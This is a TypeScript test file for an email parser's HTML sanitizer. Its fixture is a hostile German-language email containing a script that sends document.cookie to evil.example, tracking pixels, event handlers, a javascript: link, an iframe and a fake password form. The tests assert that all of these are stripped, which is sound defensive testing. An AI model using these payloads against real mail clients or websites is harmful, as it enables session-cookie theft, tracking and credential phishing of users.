import { describe, expect, it } from 'vitest';
import { composeMail, OWN } from '../../../../test/helpers/raw-mail.ts';
import { parseMail } from './parse.ts';

const hostile = `<html><head><style>body{background:url(https://tracker.example/bg.gif)}</style>
<script>fetch('https://evil.example/?c='+document.cookie)</script></head>
<body onload="steal()">
<p onclick="steal()">Der Gehweg in der <b>Lindenstraße</b> ist aufgerissen.</p>
<p><a href="javascript:alert(1)">Foto ansehen</a> · <a href="https://karte.example/p/1" target="_self" rel="opener">Karte</a></p>
<img src="https://tracker.example/open.gif?id=42" width="1" height="1" alt="">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/login"><input name="password"><button>Anmelden</button></form>
<p>Mit freundlichen Grüßen<br>Erika</p>
</body></html>`;

describe('HTML mail', () => {
  it('keeps the words and drops script, style, handlers, frames, forms, tracking pixels and javascript: links', async () => {
    const mail = await parseMail(await composeMail({ subject: 'Gehweg', html: hostile }), OWN);
    const html = mail.html ?? '';
    for (const gone of [
      '<script',
      'document.cookie',
      '<style',
      'tracker.example',
      'onload',
      'onclick',
      'javascript:',
      '<iframe',
      '<form',
      '<input',
      'password',
    ]) {
      expect(html).not.toContain(gone);
    }
    expect(html).toContain('Der Gehweg in der <b>Lindenstraße</b> ist aufgerissen.');
    expect(html).toContain('<a href="https://karte.example/p/1" target="_blank" rel="noopener noreferrer nofollow">Karte</a>');
    expect(html).not.toContain('<img');

    expect(mail.text).toContain('Der Gehweg in der Lindenstraße ist aufgerissen.');
    expect(mail.text).toContain('Mit freundlichen Grüßen');
    expect(mail.text).not.toContain('document.cookie');
    expect(mail.text).not.toContain('background:url');
  });

  it('keeps cid: images of the mail itself in the original view', async () => {
    const png = Buffer.from(
      '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082',
      'hex',
    );
    const mail = await parseMail(
      await composeMail({
        html: '<p>Hier das Foto:</p><img src="cid:foto1@example.org" alt="Schlagloch">',
        attachments: [{ filename: 'schlagloch.png', content: png, cid: 'foto1@example.org' }],
      }),
      OWN,
    );
    expect(mail.html).toContain('<img src="cid:foto1@example.org" alt="Schlagloch" />');
    expect(mail.attachments).toMatchObject([{ filename: 'schlagloch.png', inline: true, kind: 'image', contentType: 'image/png' }]);
  });
});
